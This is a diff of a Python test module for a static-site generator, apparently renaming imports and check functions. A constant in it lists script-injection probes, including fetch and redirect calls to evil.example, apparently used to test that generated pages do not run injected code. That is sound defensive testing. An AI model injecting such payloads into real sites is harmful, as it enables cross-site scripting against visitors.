@@ -10,10 +10,9 @@ from random import Random
 from typing import Any
 
 import yaml
-
-from generator.build import examine
-from generator.fields import Field, kind_of
-from generator.model.base import Text
+from loosen.build.build import load_and_check
+from loosen.model.author_fields import Field, kind_for_file
+from loosen.model.base import Text
 
 TODAY = datetime.date(2026, 12, 1)
 RUN = ("window.pwned=1", "alert(1)", "fetch('https://evil.example/')", "location='https://evil.example/'")
@@ -152,7 +151,7 @@ def _is_text(one: Field) -> bool:
 
 
 def _entities(name: str, data: dict[str, Any]) -> Iterator[tuple[Any, dict[str, Any]]]:
-    kind = kind_of(name, data)
+    kind = kind_for_file(name, data)
     assert kind, name
     for entity in data.values() if kind.listed else [data]:
         yield kind, entity
@@ -205,7 +204,7 @@ def _settle(made: Spread) -> None:
     """Takes back what `check` says something about, until it says nothing."""
     for _ in range(8):
         lines = {name: _write(made, name) for name in made.data}
-        site, report = examine(made.folder, today=TODAY)
+        site, report = load_and_check(made.folder, today=TODAY)
         if not report:
             assert site
             return
